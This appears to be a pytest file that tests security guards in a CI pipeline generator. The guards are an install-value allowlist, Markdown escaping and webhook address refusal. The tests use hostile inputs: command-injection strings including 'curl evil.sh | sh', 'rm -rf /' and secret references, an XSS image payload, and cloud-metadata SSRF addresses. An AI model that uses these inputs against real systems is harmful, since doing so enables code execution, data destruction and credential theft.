"""Issue 24, class 9: values that reach CI files are allowlisted, untrusted text in
Markdown is plain text, and webhooks never reach link-local or metadata addresses."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from generator.config.notify import Webhooks
from generator.errors import InputError
from generator.events.address_guard import AddressRefused, guarded_opener, refusal
from generator.events.core import Event, Origin
from generator.events.notify import WebhookSink, payload
from generator.mdtext import md_text
from generator.pipeline.model import Pins
from tests.conftest import ROOT
from tests.unit.cli.test_errors import one_line

# -- zdd pipeline --install --------------------------------------------------------------

HOSTILE_INSTALLS = [
    "zdd==1.0 ${{ github.token }}",
    "${{ secrets.AWS_KEY }}",
    "zdd @ https://x/${{github.token}}.whl",
    "zdd==1.0'; curl evil.sh | sh; echo '",
    'zdd==1.0" && env',
    "zdd==1.0; rm -rf /",
    "zdd==1.0\nrun: evil",
    "zdd==`id`",
    "zdd==$(id)",
    "zdd==$CI_JOB_TOKEN",
    "zdd --index-url https://evil/simple",
    "-e git+https://evil/zdd",
    "zdd @ https://x/zdd.whl#${IFS}",
    "zdd==1.0 & whoami",
    "zdd==1.0\\",
    "zdd==1.0\n",  # a trailing newline: the allowlist matches the whole value
]


@pytest.mark.parametrize("value", HOSTILE_INSTALLS)
def test_install_values_are_allowlisted(value: str) -> None:
    with pytest.raises(InputError, match="--install: expected one pip requirement"):
        Pins(value)


@pytest.mark.parametrize(
    "value",
    [
        "zdd==0.1.0",
        "zdd-release==1.2.3",
        "zdd[aws]>=1.0,<2",
        "zdd @ git+https://git.example/platform/zdd@v0.1.0",
        "zdd @ git+ssh://git@git.example/platform/zdd@v0.1.0",
        "https://files.example/zdd-0.1.0-py3-none-any.whl#sha256=abc123",
    ],
)
def test_real_requirements_still_pass(value: str) -> None:
    assert Pins(value).zdd_requirement == value


def test_cli_refuses_an_injected_install_and_writes_nothing(run_cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    result = run_cli(
        "pipeline",
        "github",
        "--install",
        "zdd==1 ${{ github.token }}",
        "--out",
        str(tmp_path),
        cwd=ROOT,
    )
    assert result.exit_code == 2 and "--install" in one_line(result)
    assert not any(tmp_path.iterdir())


# -- untrusted text in Markdown ------------------------------------------------------------

HTML = '<img src=x onerror="alert(1)"><details open><script>x</script>'


@pytest.mark.parametrize("text", [HTML, "a | b\nc", "[click](https://evil)", "`code`"])
def test_md_text_is_plain_text(text: str) -> None:
    out = md_text(text)
    assert "<" not in out and "\n" not in out
    assert "](" not in out.replace("\\](", "")


def test_hook_output_is_escaped_in_report_markdown(tmp_path: Path) -> None:
    from generator.journal.local import LocalStore
    from generator.journal.model import JournalDoc, JournalEvent
    from generator.report import export
    from tests.support.report_sample import rolled_back_release

    dep = rolled_back_release()
    dep.outcome_reason = f"hook smoke failed: exit 1: {HTML}"
    dep.events.append(JournalEvent(at=dep.started_at + 1, kind="hook.failed", message=HTML))
    store = LocalStore(tmp_path, "shop", "staging")
    store.save(JournalDoc(service="shop", environment="staging", history=[dep]))
    done = export(store, html=tmp_path / "r.html", markdown=True, now=0)
    assert done.markdown is not None
    assert "<img" not in done.markdown and "<script" not in done.markdown
    assert "&lt;img" in done.markdown


def test_hook_output_is_escaped_in_the_github_step_summary(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from generator.events.ci import GitHubSink
    from generator.pipeline.plan_report import annotate_error

    summary = tmp_path / "summary.md"
    sink = GitHubSink(summary, stream=open(tmp_path / "log", "w"))  # noqa: SIM115
    sink.emit(Event(kind="hook.failed", message=f"smoke: {HTML}", at=0.0, level="error"))
    sink.emit(Event(kind="rollback.done", message=f"rolled back: {HTML}", at=1.0))
    sink.close()
    annotate_error(
        f"refused: {HTML}",
        3,
        {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary)},
        stream=open(tmp_path / "log2", "w"),  # noqa: SIM115
    )
    text = summary.read_text()
    assert "<img" not in text and "<script" not in text and "<details open>" not in text


# -- webhook addresses ----------------------------------------------------------------------

REFUSED = [
    "169.254.169.254",
    "169.254.170.2",
    "169.254.1.1",
    "fe80::1",
    "fd00:ec2::254",
    "::ffff:169.254.169.254",
    "::ffff:a9fe:a9fe",
    "64:ff9b::a9fe:a9fe",
    "::169.254.169.254",
    "0.0.0.0",
    "::",
    "224.0.0.1",
]


@pytest.mark.parametrize("address", REFUSED)
def test_refused_addresses(address: str) -> None:
    assert refusal(address)


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "10.1.2.3", "192.168.1.1", "8.8.8.8"])
def test_allowed_addresses(address: str) -> None:
    assert refusal(address) is None


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest",
        "http://[fd00:ec2::254]/",
        "http://[::ffff:169.254.169.254]/",
    ],
)
def test_a_literal_metadata_url_is_bad_input_at_load(url: str) -> None:
    with pytest.raises(ValidationError, match="zdd never posts there"):
        Webhooks(urls=[url])


class _Receiver:
    def __init__(self, status: int = 200, location: str = "") -> None:
        self.bodies: list[bytes] = []
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                receiver.bodies.append(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(status)
                if location:
                    self.send_header("Location", location)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def receiver() -> Iterator[_Receiver]:
    found = _Receiver()
    yield found
    found.server.shutdown()


def _resolving(monkeypatch, answers: dict[str, list[str]]) -> list[Any]:  # type: ignore[no-untyped-def]
    """Names resolve to ``answers``; every connect attempt is recorded."""
    real = socket.getaddrinfo
    connects: list[Any] = []

    def fake(host: str, port: Any, *args: Any, **kwargs: Any) -> list[Any]:
        if host in answers:
            out = []
            for ip in answers[host]:
                family = socket.AF_INET6 if ":" in ip else socket.AF_INET
                addr = (ip, port, 0, 0) if family == socket.AF_INET6 else (ip, port)
                out.append((family, socket.SOCK_STREAM, 6, "", addr))
            return out
        return real(host, port, *args, **kwargs)

    real_connect = socket.socket.connect

    def record(self: socket.socket, address: Any) -> None:
        connects.append(address)
        real_connect(self, address)

    monkeypatch.setattr(socket, "getaddrinfo", fake)
    monkeypatch.setattr(socket.socket, "connect", record)
    return connects


def _deliver(url: str) -> None:
    sink = WebhookSink([url], origin=Origin("shop", "staging"))
    try:
        event = Event(kind="deployment.start", message="m", at=0.0)
        sink.deliver(url, event, payload(event, Origin("shop", "staging")))
    finally:
        sink.close()


@pytest.mark.parametrize(
    "answers",
    [
        ["169.254.169.254"],
        ["::ffff:169.254.169.254"],
        ["fe80::1"],
        ["fd00:ec2::254"],
        ["127.0.0.1", "169.254.169.254"],  # one bad answer refuses the name
    ],
)
def test_a_name_resolving_to_a_refused_address_is_never_connected(
    monkeypatch, receiver: _Receiver, answers: list[str]
) -> None:  # type: ignore[no-untyped-def]
    connects = _resolving(monkeypatch, {"hooks.example": answers})
    with pytest.raises(AddressRefused):
        _deliver(f"http://hooks.example:{receiver.port}/hook")
    assert connects == [] and receiver.bodies == []


def test_a_name_resolving_to_loopback_is_posted_to(monkeypatch, receiver: _Receiver) -> None:  # type: ignore[no-untyped-def]
    connects = _resolving(monkeypatch, {"hooks.example": ["127.0.0.1"]})
    _deliver(f"http://hooks.example:{receiver.port}/hook")
    assert len(receiver.bodies) == 1 and connects and connects[0][0] == "127.0.0.1"


def test_redirects_are_not_followed(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    bouncer = _Receiver(status=307, location="http://meta.example/latest/meta-data/")
    try:
        connects = _resolving(monkeypatch, {"meta.example": ["127.0.0.1"]})
        with pytest.raises(Exception, match="307"):
            _deliver(f"http://127.0.0.1:{bouncer.port}/hook")
        assert [c[1] for c in connects] == [bouncer.port]
    finally:
        bouncer.server.shutdown()


def test_the_opener_is_guarded_for_https_too(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    connects = _resolving(monkeypatch, {"secure.example": ["169.254.169.254"]})
    with pytest.raises(AddressRefused):
        guarded_opener().open("https://secure.example/x", timeout=2)
    assert connects == []
